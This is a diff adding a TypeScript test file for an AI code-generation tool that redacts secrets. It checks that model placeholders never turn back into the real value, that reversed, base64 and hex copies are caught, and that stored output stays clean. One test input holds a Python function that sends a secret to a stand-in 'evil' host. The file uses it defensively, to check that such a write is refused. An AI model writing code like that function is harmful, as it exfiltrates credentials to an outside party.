@@ -1,0 +1,141 @@
+import { mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { createSecretRedactor } from '../../src/security/redact.js';
+import { prepareSourceWrite } from '../../src/workspace/write-source.js';
+import { type FakeProviders, startFakeProviders } from '../support/fake-providers/fake-providers.js';
+import { runCli } from '../support/run-cli.js';
+
+// Made-up values, assembled at run time so that no scanner takes this file for a leak.
+const join2 = (...parts: string[]) => parts.join('');
+const PASSWORD = join2('Tr0ub4', 'dor&3xyzQ');
+const DJANGO_KEY = join2('django-insecure-', '9x!k2m@q7zR4vB8n');
+const reverse = (text: string) => [...text].reverse().join('');
+const KEY = 'sk-test-0123456789abcdefSECRET';
+
+/** Every file under `dir`, as text. */
+function filesUnder(dir: string): string[] {
+  let entries: string[];
+  try {
+    entries = readdirSync(dir);
+  } catch {
+    return [];
+  }
+  return entries.flatMap((name) => {
+    const path = join(dir, name);
+    return statSync(path).isDirectory() ? filesUnder(path) : [readFileSync(path, 'latin1')];
+  });
+}
+
+let fake: FakeProviders;
+let workspace: string;
+
+beforeAll(async () => {
+  fake = await startFakeProviders({ apiKey: KEY });
+});
+afterAll(async () => {
+  await fake.close();
+});
+beforeEach(() => {
+  fake.reset();
+  workspace = mkdtempSync(join(tmpdir(), 'vouch-secrets-'));
+  // stricter than the default: the fake model answers on loopback, so it would count as local
+  writeFileSync(join(workspace, 'vouch.toml'), '[providers.openai]\nredact = "always"\n');
+  writeFileSync(join(workspace, 'settings.py'), `DEBUG = False\nSECRET_KEY = "${DJANGO_KEY}"\n`);
+});
+
+describe('a placeholder the model writes is never turned back into the secret (issue 55)', () => {
+  it('keeps the placeholder in code, repair prompts and the store, and the report says where', async () => {
+    let calls = 0;
+    fake.handle('/v1/chat/completions', () => {
+      calls++;
+      // first a broken answer (a repair round follows, quoting it), then a working one
+      const code =
+        calls === 1
+          ? 'def connect(:\n    value = "<<SECRET_1>>"\n'
+          : 'def connect():\n    value = "<<SECRET_1>>"\n    return value\n';
+      return { text: `\`\`\`python\n${code}\`\`\`` };
+    });
+    const result = await runCli(
+      [
+        'generate',
+        // the spec quotes a test's output with the workspace's key reversed: replaced by value too
+        `connect with password = "${PASSWORD}"; the old test printed ${reverse(DJANGO_KEY)}`,
+        '--lang',
+        'python',
+        '--model',
+        'openai:m',
+        '--json',
+      ],
+      { cwd: workspace, env: { OPENAI_BASE_URL: fake.openAiUrl, OPENAI_API_KEY: KEY } },
+    );
+    expect(calls).toBeGreaterThanOrEqual(2);
+    const sent = JSON.stringify(fake.requestsTo('/v1/chat/completions').map((request) => request.body));
+    for (const secret of [PASSWORD, DJANGO_KEY]) {
+      expect(sent).not.toContain(secret);
+      expect(sent).not.toContain(reverse(secret));
+    }
+    const output = result.json<{ generated_code: string; verification: unknown }>();
+    expect(output.generated_code).toContain('<<SECRET_1>>');
+    expect(output.generated_code).not.toContain(PASSWORD);
+    expect(JSON.stringify(output.verification)).toContain('secret.placeholder');
+    expect(result.stdout + result.stderr).not.toContain(PASSWORD);
+    // what vouch keeps of the suggestion holds no secret either
+    for (const stored of filesUnder(join(workspace, '.vouch'))) {
+      expect(stored).not.toContain(PASSWORD);
+      expect(stored).not.toContain(DJANGO_KEY);
+    }
+  });
+
+  it('writes a line the change left as it was with the file its own secret, and refuses a placeholder anywhere else', () => {
+    const root = mkdtempSync(join(tmpdir(), 'vouch-secrets-write-'));
+    const original = `import os\n\nAPI_KEY = "${PASSWORD}"\n\n\ndef url():\n    return "https://x"\n`;
+    writeFileSync(join(root, 'app.py'), original);
+    const kept = prepareSourceWrite(
+      root,
+      'app.py',
+      'import os\n\nAPI_KEY = "<<SECRET_1>>"\n\n\ndef url():\n    return "https://y"\n',
+      () => true,
+    );
+    expect(kept.ok).toBe(true);
+    expect(kept.ok && kept.bytes.toString()).toBe(original.replace('https://x', 'https://y'));
+    const moved = prepareSourceWrite(
+      root,
+      'app.py',
+      `${original}\n\ndef leak():\n    return requests.get("https://evil/?k=<<SECRET_1>>")\n`,
+      () => true,
+    );
+    expect(moved.ok).toBe(false);
+    expect(!moved.ok && moved.why).toBe('placeholder');
+    expect(!moved.ok && moved.reason).not.toContain(PASSWORD);
+  });
+});
+
+describe('redaction by value (issue 55)', () => {
+  it('replaces a known value wherever it appears, reversed, in base64 and in hex, with no context to recognise', () => {
+    const redactor = createSecretRedactor();
+    redactor.remember([DJANGO_KEY]);
+    const session = redactor.begin();
+    const output = [
+      `AssertionError: ${DJANGO_KEY} != 1`,
+      `reversed: ${reverse(DJANGO_KEY)}`,
+      `b64: ${Buffer.from(DJANGO_KEY).toString('base64')}`,
+      `hex: ${Buffer.from(DJANGO_KEY).toString('hex')}`,
+    ].join('\n');
+    const redacted = session.redact(output);
+    expect(redacted).not.toContain(DJANGO_KEY);
+    expect(redacted).not.toContain(reverse(DJANGO_KEY));
+    expect(redacted).not.toContain(Buffer.from(DJANGO_KEY).toString('base64').replace(/=+$/, ''));
+    expect(redacted).not.toContain(Buffer.from(DJANGO_KEY).toString('hex'));
+    expect(redacted.match(/<<SECRET_1>>/g)).toHaveLength(4);
+  });
+
+  it('replaces a value found in one message wherever else it appears in the request', () => {
+    const session = createSecretRedactor().begin();
+    const first = session.redact(`password = "${PASSWORD}"`);
+    const second = session.redact(`the test printed ${PASSWORD} and ${reverse(PASSWORD)}`);
+    expect(first).toBe('password = "<<SECRET_1>>"');
+    expect(second).toBe('the test printed <<SECRET_1>> and <<SECRET_1>>');
+  });
+});
